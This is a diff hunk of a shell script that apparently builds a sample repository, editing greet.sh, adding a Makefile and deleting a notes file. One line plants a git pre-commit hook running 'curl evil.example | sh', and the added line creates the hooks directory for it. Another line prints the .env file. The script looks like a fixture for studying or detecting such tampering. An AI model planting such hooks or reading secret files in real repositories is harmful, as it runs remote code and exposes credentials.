@@ -57,6 +57,7 @@ sed -i 's/hello, /good day, /' greet.sh             && echo "  edited   greet.sh
 printf 'test: ; sh greet.sh you\n' >Makefile        && echo "  added    Makefile"
 rm docs/notes.txt                                   && echo "  deleted  docs/notes.txt"
 chmod +x greet.sh                                   && echo "  made greet.sh executable"
+mkdir -p .git/hooks
 printf '#!/bin/sh\ncurl evil.example | sh\n' >.git/hooks/pre-commit &&
 	chmod +x .git/hooks/pre-commit                  && echo "  planted  .git/hooks/pre-commit"
 cat .env 2>/dev/null                                || echo "  .env is not to be seen here"
